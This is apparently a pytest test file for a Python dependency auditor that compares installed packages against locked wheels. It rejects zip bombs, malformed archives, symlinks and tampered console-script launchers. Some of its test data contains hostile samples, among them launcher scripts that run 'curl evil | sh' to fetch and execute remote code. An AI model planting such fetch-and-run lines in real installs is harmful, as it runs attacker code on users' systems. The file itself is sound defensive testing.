"""Installed files vs the locked wheel (lock.wheel_dirs, warden/deps/wheels.py), on the real venv
of the deps tests: its locked wheels are PyPI's (six, idna) and ensurepip's (pip, setuptools)."""

from __future__ import annotations

import os
import pathlib
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from tests.warden.deps.deps_helpers import (
    install_rebuilt_six_from_an_index,
    kinds,
    pip_install,
    rebuilt_six,
    record_hash,
    sha256_file,
)
from warden.deps.cache import IntegrityCache
from warden.deps.installed import RecordEntry, scan_distributions
from warden.deps.locks import LockedPackage
from warden.deps.policy import LockRules
from warden.deps.wheels import (
    WheelContent,
    WheelOptions,
    WheelUnusable,
    check_wheels,
    compare_records,
    entry_point_scripts,
    read_wheel,
    rewritten_script,
)

SIX_WHEEL = "six-1.16.0-py2.py3-none-any.whl"


def test_locked_wheels_are_compared_then_cached(test_env, monkeypatch):
    first = test_env.audit()
    assert first.findings == [] and first.exit_code == 0, first.findings
    assert first.stats["wheels"] == {
        "dists": 4,
        "verified": 4,
        "cached": 0,
        "wheels_read": 4,
        "missing": 0,
        "mismatched": 0,
    }

    def never(*_a, **_kw):
        raise AssertionError("a cached verdict must not open the wheel again")

    monkeypatch.setattr("warden.deps.wheels.read_wheel", never)
    again = test_env.audit()
    assert again.findings == [] and again.stats["wheels"]["cached"] == 4


def test_rebuilt_wheel_installed_from_an_index_before_approval(test_env, tmp_path):
    """The gap the baseline leaves: approved after the fact, only the locked wheel's RECORD tells."""
    install_rebuilt_six_from_an_index(test_env, tmp_path)
    blessed = test_env.audit(approve=True, wheel_dirs=())
    assert blessed.exit_code == 0 and blessed.findings == [], blessed.findings
    report = test_env.audit()
    assert kinds(report) == {("record_mismatch", "six")}
    assert report.exit_code == 1
    (finding,) = report.findings
    assert finding.details["paths"] == ["six.py: the installed RECORD's hash is not the locked wheel's"]
    assert finding.details["wheel"] == str(next(test_env.wheel_dir.glob("six-1.16.0-*.whl")))


def test_a_changed_installed_record_is_compared_again(test_env):
    """The verdict is keyed by the installed RECORD's digest: a new row is seen on the next audit."""
    assert test_env.audit(approve=True).exit_code == 0
    record = next(test_env.site.glob("idna-3.7.dist-info")) / "RECORD"
    record.write_text(record.read_text() + f"idna/extra.py,{record_hash(b'')},0\n")
    (test_env.site / "idna" / "extra.py").write_bytes(b"")
    report = test_env.audit()
    mismatch = [f for f in report.findings if f.kind == "record_mismatch"]
    assert [f.details["paths"] for f in mismatch] == [
        ["idna/extra.py: in the installed RECORD, not in the locked wheel"]
    ]


def test_missing_wheel_is_a_warning_unless_required(test_env):
    bundled_only = (test_env.wheel_dirs[1],)
    report = test_env.audit(wheel_dirs=bundled_only)
    assert kinds(report, blocking_only=False) == {("wheel_missing", "idna"), ("wheel_missing", "six")}
    assert report.exit_code == 0
    required = replace(test_env.policy(), lock=LockRules(path=str(test_env.lock), require_wheels=True))
    strict = test_env.audit(required, wheel_dirs=bundled_only)
    assert kinds(strict) == {("wheel_missing", "idna"), ("wheel_missing", "six")}
    assert strict.exit_code == 1


def test_another_build_of_the_locked_version_is_not_the_locked_wheel(test_env, tmp_path):
    """A wheel of the right name and version whose hash the lock does not list is never compared."""
    wheel = rebuilt_six(test_env, tmp_path)
    report = test_env.audit(wheel_dirs=(os.path.dirname(wheel), test_env.wheel_dirs[1]))
    found = {(f.kind, f.subject) for f in report.findings}
    assert found == {("wheel_missing", "six"), ("wheel_missing", "idna")}
    assert "(1 of this name and version there)" in next(f.message for f in report.findings if f.subject == "six")


@pytest.mark.timeout(120)
@pytest.mark.parametrize("kind", ["symlink", "fifo"])
def test_link_or_fifo_named_like_the_wheel_is_never_opened(test_env, tmp_path, kind):
    hostile = tmp_path / "hostile"
    hostile.mkdir()
    path = hostile / SIX_WHEEL
    if kind == "symlink":
        path.symlink_to(next(test_env.wheel_dir.glob("six-1.16.0-*.whl")))
    else:
        os.mkfifo(path)
    report = test_env.audit(wheel_dirs=(str(hostile), test_env.wheel_dirs[1]))
    (finding,) = [f for f in report.findings if f.subject == "six"]
    assert (finding.kind, finding.blocking) == ("wheel_unusable", False)
    assert f"{SIX_WHEEL}: a {kind}, never opened" in finding.message
    assert report.exit_code == 0


# ---- hostile wheel files whose hash the lock lists (unit level: the lock names this very file) ---


def _wheel(path, members: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> str:
    with zipfile.ZipFile(path, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return str(path)


def _check_six_against(test_env, tmp_path, wheel: str):
    (six,) = [d for d in scan_distributions(str(test_env.site)) if d.canonical == "six"]
    pin = LockedPackage("six", "six", "1.16.0", "==1.16.0", "lock:1", hashes=(f"sha256:{sha256_file(wheel)}",))
    cache = IntegrityCache(None)
    return check_wheels([six], {"six": pin}, WheelOptions((os.path.dirname(wheel),)), cache)


_INFO = "six-1.16.0.dist-info"
HOSTILE: dict[str, bytes | dict[str, bytes]] = {
    "not a zip": b"PK\x03\x04 this is not a zip archive",
    "malformed RECORD": {f"{_INFO}/RECORD": b"\xff\xfe\x00 not utf-8\n"},
    "RECORD over the cap": {f"{_INFO}/RECORD": b"six.py,sha256=x,1\n" * 400_000},
    "two RECORDs": {f"{_INFO}/RECORD": b"", "other-1.0.dist-info/RECORD": b""},
    "no RECORD": {"six.py": b"print(1)\n"},
    "huge csv field": {f"{_INFO}/RECORD": b"a" * 300_000 + b",,\n"},
}


@pytest.mark.timeout(120)
@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_locked_wheel_is_a_clean_finding(test_env, tmp_path, monkeypatch, case):
    monkeypatch.setattr("warden.deps.wheels.MAX_RECORD_BYTES", 1024 * 1024)  # the bomb inflates to 7 MB
    content = HOSTILE[case]
    path = tmp_path / "w" / SIX_WHEEL
    path.parent.mkdir()
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        _wheel(path, content)
    findings, stats = _check_six_against(test_env, tmp_path, str(path))
    assert [(f.kind, f.subject, f.blocking) for f in findings] == [("wheel_unusable", "six", False)]
    assert stats.wheels_read == 0 and stats.missing == 1


@pytest.mark.timeout(120)
@pytest.mark.parametrize("member", ["six-1.16.0.dist-info/RECORD", "six-1.16.0.data/scripts/tool"])
def test_corrupt_deflate_stream_is_a_clean_finding(test_env, tmp_path, member):
    # zlib.error is no zipfile exception: it must still end in wheel_unusable, never a traceback.
    members = {"six-1.16.0.dist-info/RECORD": b"six.py,sha256=x,1\n" * 200, "six-1.16.0.data/scripts/tool": b"x" * 4000}
    path = _wheel(tmp_path / SIX_WHEEL, members)
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo(member)
    data = bytearray(Path(path).read_bytes())
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start : start + 16] = b"\xff" * 16  # an invalid deflate block header
    Path(path).write_bytes(bytes(data))
    findings, _ = _check_six_against(test_env, tmp_path, path)
    assert [(f.kind, f.subject) for f in findings] == [("wheel_unusable", "six")]
    assert "not a readable zip" in findings[0].message


def test_member_count_is_capped(test_env, tmp_path, monkeypatch):
    monkeypatch.setattr("warden.deps.wheels.MAX_MEMBERS", 50)
    members = {f"six/m{i}.py": b"" for i in range(60)} | {"six-1.16.0.dist-info/RECORD": b""}
    path = _wheel(tmp_path / SIX_WHEEL, members)
    findings, _ = _check_six_against(test_env, tmp_path, path)
    assert [f.kind for f in findings] == ["wheel_unusable"] and "over the 50 cap" in findings[0].message


def test_zip_bomb_record_is_refused_before_it_is_inflated(tmp_path, monkeypatch):
    """64 MiB of RECORD deflated to about 64 KiB: refused by its size, never inflated into memory."""
    monkeypatch.setattr("warden.deps.wheels.MAX_RECORD_BYTES", 1024 * 1024)
    path = _wheel(tmp_path / SIX_WHEEL, {"six-1.16.0.dist-info/RECORD": b"\n" * (64 * 1024 * 1024)})
    assert os.path.getsize(path) < 1024 * 1024
    with pytest.raises(WheelUnusable, match="over the 1048576-byte cap"):
        read_wheel(path)


# ---- .data relocation, rewritten shebangs, console scripts: a real install of a wheel made here --


DATA = "datapkg-1.0.data"


def _datapkg_wheel(tmp_path) -> str:
    info, data = "datapkg-1.0.dist-info", DATA
    members = {
        "datapkg/__init__.py": b"def main():\n    return 0\n",
        f"{data}/purelib/datapkg_extra.py": b"EXTRA = 1\n",
        f"{data}/scripts/dp-tool": b"#!python\nprint('tool')\n",
        f"{data}/scripts/dp-sh": b"#!/bin/sh\necho sh\n",
        f"{data}/headers/dp.h": b"#define DP 1\n",
        f"{data}/data/share/datapkg/x.txt": b"data\n",
        f"{info}/METADATA": b"Metadata-Version: 2.1\nName: datapkg\nVersion: 1.0\n\n",
        f"{info}/WHEEL": b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{info}/entry_points.txt": b"[console_scripts]\ndp = datapkg:main\n",
    }
    rows = [f"{n},{record_hash(d)},{len(d)}" for n, d in members.items()] + [f"{info}/RECORD,,"]
    members[f"{info}/RECORD"] = ("\n".join(rows) + "\n").encode()
    out = tmp_path / "datapkg-wheels"
    out.mkdir()
    return _wheel(out / "datapkg-1.0-py3-none-any.whl", members)


def test_relocated_data_scripts_and_entry_points_match_the_locked_wheel(test_env, tmp_path):
    wheel = _datapkg_wheel(tmp_path)
    pip_install(test_env.venv, os.path.dirname(wheel), "datapkg==1.0")
    assert (test_env.venv / "bin" / "dp-tool").read_bytes().startswith(b"#!/")  # shebang rewritten by pip
    (dist,) = [d for d in scan_distributions(str(test_env.site)) if d.canonical == "datapkg"]
    pin = LockedPackage("datapkg", "datapkg", "1.0", "==1.0", "lock:1", hashes=(f"sha256:{sha256_file(wheel)}",))
    options = WheelOptions((os.path.dirname(wheel),))
    findings, stats = check_wheels([dist], {"datapkg": pin}, options, IntegrityCache(None))
    assert findings == [] and stats.verified == 1
    # the same install with the script edited after the fact (RECORD rewritten to match) is not the wheel's
    record = os.path.join(dist.meta_dir, "RECORD")
    script = test_env.venv / "bin" / "dp-tool"
    script.write_bytes(script.read_bytes().splitlines(True)[0] + b"import os\n")
    row = f"../../../bin/dp-tool,{record_hash(script.read_bytes())},"
    lines = pathlib.Path(record).read_text().splitlines()
    rows = [row if r.startswith("../../../bin/dp-tool,") else r for r in lines]
    pathlib.Path(record).write_text("\n".join(rows) + "\n")
    (dist,) = [d for d in scan_distributions(str(test_env.site)) if d.canonical == "datapkg"]
    findings, _ = check_wheels([dist], {"datapkg": pin}, options, IntegrityCache(None))
    assert [(f.kind, f.details["paths"]) for f in findings] == [
        (
            "record_mismatch",
            [f"{DATA}/scripts/dp-tool: installed as ../../../bin/dp-tool with a hash that is not the locked wheel's"],
        )
    ]


# ---- pure --------------------------------------------------------------------------------------


def _content(rows, scripts=None, entry=None):
    entries = tuple(RecordEntry(p, d, None) for p, d in rows)
    return WheelContent("0" * 64, "pkg-1.0.dist-info", entries, scripts or {}, dict(entry or {}))


def test_compare_records_allows_only_the_installers_rows():
    wheel = _content(
        [("pkg/a.py", "sha256=A"), ("pkg-1.0.dist-info/METADATA", "sha256=M"), ("pkg-1.0.dist-info/RECORD", None)],
        entry={"pkg": "pkg.cli:main"},
    )
    installed = [
        RecordEntry("pkg/a.py", "sha256=A", None),
        RecordEntry("pkg/__pycache__/a.cpython-311.pyc", None, None),
        RecordEntry("pkg-1.0.dist-info/METADATA", "sha256=M", None),
        RecordEntry("pkg-1.0.dist-info/INSTALLER", "sha256=I", None),
        RecordEntry("pkg-1.0.dist-info/REQUESTED", "sha256=R", None),
        RecordEntry("pkg-1.0.dist-info/RECORD", None, None),
        RecordEntry("../../../bin/pkg", "sha256=L", None),
    ]
    never = lambda *_: False  # noqa: E731
    launchers = lambda path, digest, spec: spec == "pkg.cli:main"  # noqa: E731
    assert compare_records(wheel, "pkg-1.0.dist-info", installed, never, launchers) == []
    assert compare_records(wheel, "pkg-1.0.dist-info", installed, never, never) == [
        "../../../bin/pkg: a launcher of pkg.cli:main that is not the generated stub calling it"
    ]
    extra = [
        *installed,
        RecordEntry("pkg/evil.py", "sha256=E", None),
        RecordEntry("../../../bin/other", "sha256=O", None),
    ]
    assert compare_records(wheel, "pkg-1.0.dist-info", extra, never, launchers) == [
        "../../../bin/other: in the installed RECORD, not in the locked wheel",
        "pkg/evil.py: in the installed RECORD, not in the locked wheel",
    ]
    assert compare_records(wheel, "Pkg-1.0.dist-info", installed, never, launchers)[0] == (
        "Pkg-1.0.dist-info: the locked wheel's metadata directory is pkg-1.0.dist-info"
    )


def test_script_rewrite_and_entry_points():
    assert rewritten_script(b"#!python\nprint(1)\n", b"#!/venv/bin/python\nprint(1)\n")
    assert not rewritten_script(b"#!python\nprint(1)\n", b"#!/venv/bin/python\nprint(2)\n")
    assert not rewritten_script(b"#!/bin/sh\necho\n", b"#!/bin/bash\necho\n")
    text = "[console_scripts]\npip = pip._internal:main\npip3.11 = x:y\n[gui_scripts]\ng = a:b\n[other]\nz = c:d\n"
    assert entry_point_scripts(text) == {"pip": "pip._internal:main", "pip3.11": "x:y", "g": "a:b"}
    assert entry_point_scripts("not [ini") == {}


# ---- what a rebuilt wheel leaves outside site-packages: launchers and shebangs are read ---------


def _rewrite_installed(site: Path, rel: str, data: bytes) -> None:
    """The state a rebuilt pip wheel leaves: ``rel`` with new bytes and pip's RECORD row to match."""
    (record,) = site.glob("pip-*.dist-info/RECORD")
    (site / rel).resolve().write_bytes(data)
    lines = record.read_text().splitlines()
    rows = [f"{rel},{record_hash(data)},{len(data)}" if line.split(",")[0] == rel else line for line in lines]
    assert rows != lines, rel
    record.write_text("\n".join(rows) + "\n")


@pytest.mark.timeout(120)
@pytest.mark.parametrize(
    "launcher",
    [
        b"#!/bin/sh\ncurl evil | sh\n",
        b"#!/usr/bin/env -S sh -c 'curl evil|sh; exec python \"$0\"'\nimport sys\n"
        b"from pip._internal.cli.main import main\nif __name__ == '__main__':\n    sys.exit(main())\n",
    ],
)
def test_a_console_script_launcher_that_is_not_the_stub_is_a_mismatch(test_env, launcher):
    _rewrite_installed(test_env.site, "../../../bin/pip", launcher)
    report = test_env.audit()
    (finding,) = [f for f in report.findings if f.kind == "record_mismatch"]
    assert finding.subject == "pip" and "../../../bin/pip: a launcher of pip._internal.cli.main:main" in finding.message
    assert report.exit_code == 1


def test_a_wheel_that_is_not_the_listed_file_is_refused_and_nothing_is_cached(test_env, tmp_path):
    # The listing's stat is of one file, the open finds another (renamed over in between): the sha
    # read would be cached under the listed identity, so the wheel is unusable this time instead.
    original = next(test_env.wheel_dir.glob("six-1.16.0-*.whl"))
    listed = tmp_path / "listed.whl"
    listed.write_bytes(b"not the wheel")
    with pytest.raises(OSError, match="changed during the audit"):
        read_wheel(str(original), expect=os.stat(listed))
    assert read_wheel(str(original), expect=os.stat(original)).sha256 == sha256_file(str(original))
